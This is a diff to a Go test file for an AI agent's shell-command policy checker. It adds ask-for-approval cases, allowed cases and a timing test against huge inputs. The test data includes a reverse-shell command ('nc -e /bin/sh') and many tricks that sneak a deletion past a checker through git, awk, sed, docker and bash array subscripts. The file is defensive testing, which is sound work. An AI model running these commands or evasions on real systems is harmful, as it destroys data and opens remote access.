@@ -3,6 +3,7 @@ package policy_test
 import (
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/synapse-agents/synapse/policy"
 )
@@ -69,6 +70,7 @@ func TestUncertainAsks(t *testing.T) {
 		"git -c alias.x='!rm x' x", "git -c core.pager='rm x' log", "git -ccore.pager=x log", "git --config-env=core.pager=X log", "git --exec-path=/tmp log", "git config alias.x '!rm x'", "git config core.pager x", "git $x", "git rebase -x 'rm x'", "git rebase --exec 'rm x'", "git rebase --exec='rm x'", "git grep -O x", "git difftool -x rm", "git clone -u 'rm x' h", "git fetch --upload-pack='rm x'", "git clone 'ext::rm x'", "git filter-branch --tree-filter x", "git --git-dir=/tmp/x log", "git submodule foreach \"$x\"", "git archive --exec=x",
 		"python -c 'x'", "python3 -c x", "python3.11 -Ec x", "python", "python3 - <<E\nx\nE", "python3 <<E\nx\nE", "perl -e x", "perl -ne x", "ruby -e x", "node -e x", "node --eval x", "node --eval=x", "php -r x", "lua -e x", "node", "awk 'BEGIN{system(\"rm x\")}'", "awk '{print > \"f\"}'", "awk '{print | \"sh\"}'", "awk '\"rm x\" | getline'", "awk \"$x\" f", "sed '1e rm x' f", "sed 's/a/b/e' f", "sed -n 'w out' f", "sed -e 'e' f", "sed \"$x\" f",
 		"tar --to-command=x -xf a", "tar cf a --checkpoint=1 --checkpoint-action=exec=x .", "tar -I x -xf a", "rsync -e 'rm x' a b", "make --eval x", "make SHELL=x", "go test -exec x", "go build -toolexec=x ./...", "sort --compress-program=x f", "rg --pre x y", "vim -c ':!rm' f", "vim +x", "hash -p /tmp/x ls", "enable -f x y", "mapfile -C 'rm x' a", "tmux new x", "crontab x", "at now",
+		"npx rm x", "npx -y rm x", "npm exec -- rm x", "docker run --rm -v /:/h img rm x", "docker compose exec web rm x", "kubectl exec pod -- rm x", "uv run --with a rm x", "poetry run rm x", "bundle exec rm x", "hyperfine 'rm x'", "nix-shell -p a --run 'rm x'", "entr -r rm x", "valgrind --tool=none rm x", "ed f", "nc -e /bin/sh h 1", "readarray -t -C 'rm x' a", "deno eval x",
 		"x='a[$(rm x)]'; ((x))", "((x))", "echo $((x))", "x='a[$(rm x)]'; echo $((x))", "[[ $x -eq 1 ]]", "[[ x -eq 1 ]]", "let x", "echo ${a[x]}", "echo ${a:x}", "[[ -v x ]]", "test -v 'a[$(rm x)]'", "unset 'a[$(rm x)]'", "read 'a[$(rm x)]'", "printf -v 'a[$(rm x)]' y", "declare -i x='a[$(rm x)]'", "echo ${x@P}", "echo ${!x}", "read i; for ((i=0;i<3;i++)); do ls; done", "echo @($(rm x))", "echo $'a\\'; rm x #'", "echo $'\\e[2J'", "ls $'\\x00'",
 		strings.Repeat("(", 600) + strings.Repeat(")", 600), strings.Repeat("ls;", 30000), strings.Repeat("sh -c ", 3) + "ls", strings.Repeat("env ", 40) + "ls",
 	} {
@@ -87,6 +89,7 @@ func TestHarmlessIsAllowed(t *testing.T) {
 		"echo rm x", "echo 'rm x'", "echo \"a; rm x\"", "grep -r 'rm x' .", "echo a # rm x", "echo $x", "echo \"$x\"", "echo ${x:-y}", "echo *.go", "ls {a,b}", "cat ~/x", "mkdir -p a/{b,c}", "rmdir x", "./rmx", "npm run rm", "make rm",
 		"for f in *.go; do echo \"$f\"; done", "while read -r l; do echo \"$l\"; done < in", "if [ -f x ]; then cat x; fi", "[[ -f x && $y == z* ]] && ls", "case $x in a|b) ls;; *) pwd;; esac", "x=1; y=$(date); echo $x $y", "FOO=bar go test", "export FOO=bar", "f() { ls; }; f", "i=0; while true; do i=$((i+1)); break; done; echo $((i+1))",
 		"find . -name '*.go' -type f", "find . -name *.go", "find . -exec grep -l x {} +", "ls | xargs -n1 basename", "xargs -0 grep -l x", "timeout 60 go test ./...", "env FOO=1 go test", "nice -n 10 make", "command -v rm", "sudo -l", "sh -c 'ls | wc -l'", "bash -c 'cd x && ls'", "bash script.sh a b", "python3 script.py", "python3 -m pytest -q", "node app.js", "python --version", "awk '{print $1}' f", "awk -F: '$3 || $4 {print $1, $2}' f", "sed -n '1,20p' f", "sed 's/a/b/g' f", "sed -i 's/foo/bar/' f", "tar xzf a.tgz", "trap - EXIT", "curl -s https://example.com/rm", "GIT_AUTHOR_NAME=x git commit", "time ls", "eval ls", "printf '%s\\n' a",
+		"docker run --rm img go test", "npx vitest run", "uv run pytest -q", "docker ps", "npm run build", "go run ./cmd/x",
 		"for ((i=0; i<3; i++)); do echo $i; done", "i=0; i=$((i+1)); echo $((i*2)) ${#x}", "n=3; [[ $n -gt 2 ]] && ls", "[ $# -gt 1 ] && ls",
 	} {
 		if d := shell(p, command); d.Action != policy.Allow {
@@ -241,4 +244,46 @@ func TestSeveralSourcesOfShellRules(t *testing.T) {
 			t.Errorf("%q: %+v, want %s", command, d, want)
 		}
 	}
+}
+
+// A judge that can be kept busy is one that can be switched off.
+func TestHugeCommands(t *testing.T) {
+	p := shellPolicy(t, "execute", "rm *", "deny", "execute", "*a*b*c*d", "ask")
+	for name, s := range map[string]string{
+		"brackets":      strings.Repeat("(", 60000),
+		"dollars":       strings.Repeat("$(", 400) + strings.Repeat(")", 400),
+		"backquotes":    strings.Repeat("`", 60000),
+		"commands":      strings.Repeat("a;", 30000),
+		"unknown":       strings.Repeat("$a;", 20000),
+		"distinct":      distinct(9000),
+		"wrappers":      strings.Repeat("env ", 15000) + "a",
+		"words":         "echo " + strings.Repeat("a ", 30000),
+		"vanishing":     "echo " + strings.Repeat("$a ", 20000),
+		"braces":        "echo " + strings.Repeat("{a,b}", 10000),
+		"subscripts":    strings.Repeat("a[", 400) + "0" + strings.Repeat("]", 400) + "=1",
+		"heredocs":      strings.Repeat("cat <<E\n$(a)\nE\n", 4000),
+		"long":          "echo " + strings.Repeat("a", 60000),
+		"quotes":        "echo " + strings.Repeat("'a'\"b\"", 9000),
+		"too long":      "echo " + strings.Repeat("a", 1<<20),
+		"find":          "find . " + strings.Repeat("-exec echo {} \\; ", 3000),
+		"runner":        "npx " + strings.Repeat("a ", 30000),
+		"nested shells": "sh -c " + quote("sh -c "+quote("sh -c "+quote("sh -c "+quote(strings.Repeat("a;", 500))))),
+	} {
+		start := time.Now()
+		shell(p, s)
+		if took := time.Since(start); took > 3*time.Second {
+			t.Errorf("%s: %v", name, took)
+		} else {
+			t.Logf("%s: %v", name, took)
+		}
+	}
+}
+
+// distinct returns n commands whose program is unknown, each in another way.
+func distinct(n int) string {
+	var b strings.Builder
+	for i := range n {
+		b.WriteString("$a" + string(rune('a'+i%26)) + string(rune('a'+i/26%26)) + string(rune('a'+i/676%26)) + ";")
+	}
+	return b.String()
 }
